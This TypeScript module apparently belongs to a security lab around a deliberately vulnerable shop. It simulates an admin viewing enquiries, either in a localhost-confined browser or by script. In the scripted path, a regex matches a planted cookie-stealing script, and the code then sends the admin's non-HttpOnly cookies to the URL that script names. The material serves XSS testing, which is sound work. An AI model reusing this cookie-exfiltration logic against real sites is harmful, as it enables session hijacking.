/**
 * The shopkeeper signs in and looks at the enquiries: in a real browser where there is one, otherwise by sending the
 * request that the planted script would send — and the caller is told which of the two it was.
 */
import { chromium } from 'playwright-core';
import { requireLoopback } from '../loopback/address.ts';
import { request } from '../loopback/request.ts';
import type { Admin } from '../shop/admin-routes.ts';

export type AdminBrowser = { readonly executable: string; readonly sandbox: boolean };

export type Looked =
  | { readonly how: 'browser'; readonly sandbox: boolean }
  /** `why`: absent when no browser was given, else what was in the way of it. */
  | { readonly how: 'scripted'; readonly why?: 'browser-does-not-start' };

type Options = { readonly shop: string; readonly admin: Admin; readonly browser: AdminBrowser | undefined };

const LIMIT_MS = 15_000;
/** Names of localhost only: a page cannot lead this browser anywhere else. */
const CONFINED = ['--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE *.localhost', '--disable-background-networking'];

export const lookAsAdmin = async ({ shop, admin, browser }: Options): Promise<Looked> => {
  requireLoopback(shop);
  if (browser === undefined) {
    await lookByRequests(shop, admin);
    return { how: 'scripted' };
  }
  const launched = await chromium
    .launch({ executablePath: browser.executable, chromiumSandbox: browser.sandbox, args: CONFINED })
    .catch(() => undefined);
  if (launched === undefined) {
    await lookByRequests(shop, admin);
    return { how: 'scripted', why: 'browser-does-not-start' };
  }
  try {
    const page = await launched.newPage();
    page.setDefaultTimeout(LIMIT_MS);
    await page.goto(`${shop}/admin/login`);
    await page.fill('#admin-user', admin.user);
    await page.fill('#admin-password', admin.password);
    await page.click('#admin-login');
    await page.waitForURL(`${shop}/admin`);
    await page.goto(`${shop}/admin/enquiries`, { waitUntil: 'networkidle' });
    return { how: 'browser', sandbox: browser.sandbox };
  } finally {
    await launched.close();
  }
};

const SENDS_COOKIES = /<script>\(function\(\){var to="([^"]+)";[\s\S]*?\/s\.gif\?c=[\s\S]*?<\/script>/;

const lookByRequests = async (shop: string, admin: Admin): Promise<void> => {
  const signedIn = await request(`${shop}/admin/login`, { body: { user: admin.user, password: admin.password } });
  const cookies = signedIn.headers['set-cookie'] ?? [];
  const pairOf = (cookie: string): string => cookie.split(';')[0] ?? '';
  const screen = await request(`${shop}/admin/enquiries`, { headers: { cookie: cookies.map(pairOf).join('; ') } });
  const script = SENDS_COOKIES.exec(screen.text);
  if (script?.[1] === undefined) return;
  const readable = cookies.filter((cookie) => !/;\s*httponly/i.test(cookie)).map(pairOf);
  await request(`${script[1]}/s.gif?c=${encodeURIComponent(readable.join('; '))}`);
};
